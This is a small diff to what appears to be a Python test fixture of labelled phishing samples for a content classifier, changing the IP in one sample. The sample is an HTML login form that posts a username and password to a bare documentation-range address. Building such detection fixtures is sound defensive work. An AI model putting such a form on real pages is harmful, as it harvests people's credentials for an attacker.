@@ -133,7 +133,7 @@ EVIL: dict[str, tuple[str, str, str]] = {
     "a password to a bare address": (
         "CONTENT.PHISHING",
         "kotak sewaan",
-        "<form method=post action='http://198.51.100.9/l.php'><input name=user><input name=pw type=password></form>",
+        "<form method=post action='http://203.0.113.9/l.php'><input name=user><input name=pw type=password></form>",
     ),
     "a wallet's name": (
         "CONTENT.PHISHING",
